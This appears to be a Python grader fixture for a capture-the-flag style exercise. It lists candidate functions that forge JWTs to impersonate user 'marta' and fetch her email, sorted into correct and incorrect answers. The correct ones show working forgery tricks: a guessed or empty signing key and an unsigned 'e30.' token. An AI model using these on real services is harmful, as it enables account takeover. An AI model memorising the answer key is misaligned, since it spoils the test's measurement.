from learners import Learners


def sending(made: str, returned: str = '["email"]') -> str:
    """An attack with this token, that returns this part of the answer."""
    return f"""
def attack(api):
    token = {made}
    answer = api.get("/users/me", headers={{"Authorization": "Bearer " + token}})
    return answer.json(){returned}
"""


SIGNED = 'jwt.encode({{"sub": {0}}}, "secret", algorithm="HS256")'

LEARNERS = Learners(
    right=(
        sending(SIGNED.format('"marta"')),
        sending('jwt.encode({"sub": "MARTA"}, "", algorithm="HS256")'),
        sending(
            'jwt.encode({"sub": "marta", "exp": 0}, "x" * 500, algorithm="HS384")', '["email"]'
        ),
        sending('"e30." + jwt.encode({"sub": "marta"}, "k").split(".")[1] + "."'),
    ),
    named={
        sending(SIGNED.format('"Jonas"')): "his own name",
        sending(SIGNED.format('"marta"'), '.get("username")'): "the username",
        sending(SIGNED.format('"marta"'), ""): "all of it",
        sending(SIGNED.format('"marta@burgos.example.org"')): "no such user",
    },
    unnamed=(
        'def attack(api):\n    return "marta@example.org"',
        sending(SIGNED.format('"marta"'), '["email"].upper()'),
        sending('jwt.encode({"name": "marta"}, "secret", algorithm="HS256")'),
        sending(SIGNED.format('"keiko"')),
        sending('jwt.encode({"sub": 1}, "secret", algorithm="HS256")'),
        sending(SIGNED.format('"marta"'), '["id"]'),
        'def attack(api):\n    return api.get("/users/me").json()["email"]',
    ),
)
